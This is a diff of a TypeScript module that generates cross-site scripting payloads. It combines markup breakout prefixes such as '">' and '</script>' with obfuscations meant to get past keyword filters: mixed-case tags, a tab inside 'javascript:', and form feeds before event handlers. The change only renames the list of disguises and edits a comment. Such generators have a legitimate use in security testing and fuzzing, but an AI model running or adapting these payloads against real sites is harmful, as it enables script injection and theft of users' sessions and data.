@@ -32,8 +32,8 @@ const ELEMENTS: readonly ((run: string) => string)[] = [
 ];
 /** Prefixes that break out of the surrounding markup. */
 const BREAKOUTS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>', '"/></p>'];
-/** Changes that get the HTML past a filter for keywords. */
-const DISGUISES: readonly ((html: string) => string)[] = [
+/** Variants of the HTML: unchanged, disguised from a filter for keywords, in Markdown, or after an escaped tag. */
+const VARIANTS: readonly ((html: string) => string)[] = [
   (html) => html,
   (html) => html.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
   (html) => html.replace(/javascript:/g, 'java\tscript:').replace(/ on/g, '\u000con'),
@@ -49,6 +49,6 @@ const DISGUISES: readonly ((html: string) => string)[] = [
 export const createPayloads = (count: number): string[] =>
   Array.from({ length: count }, (_, index) => {
     const element = ELEMENTS[index % ELEMENTS.length]!(callFor(index));
-    const disguise = DISGUISES[Math.floor(index / ELEMENTS.length) % DISGUISES.length]!;
+    const disguise = VARIANTS[Math.floor(index / ELEMENTS.length) % VARIANTS.length]!;
     return BREAKOUTS[index % BREAKOUTS.length]! + disguise(element);
   });
